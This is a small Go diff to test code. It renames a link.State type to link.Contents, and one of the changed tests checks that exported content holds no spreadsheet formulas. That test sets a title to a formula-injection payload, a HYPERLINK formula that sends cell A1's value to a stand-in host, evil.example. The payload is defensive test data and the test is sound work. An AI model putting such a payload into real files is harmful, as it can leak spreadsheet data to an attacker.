@@ -801,7 +801,7 @@ func impossible(t *testing.T) string {
 	if err != nil {
 		t.Fatal(err)
 	}
-	text, err := link.Encode(link.State{Scenario: sc, At: 3})
+	text, err := link.Encode(link.Contents{Scenario: sc, At: 3})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -881,7 +881,7 @@ func TestVotesHaveNoFormulas(t *testing.T) {
 	s := open(t, nil)
 	sc := parsed(t, twoText)
 	sc.Title = `=HYPERLINK("http://evil.example/"&A1,"click")`
-	text, err := link.Encode(link.State{Scenario: sc})
+	text, err := link.Encode(link.Contents{Scenario: sc})
 	if err != nil {
 		t.Fatal(err)
 	}
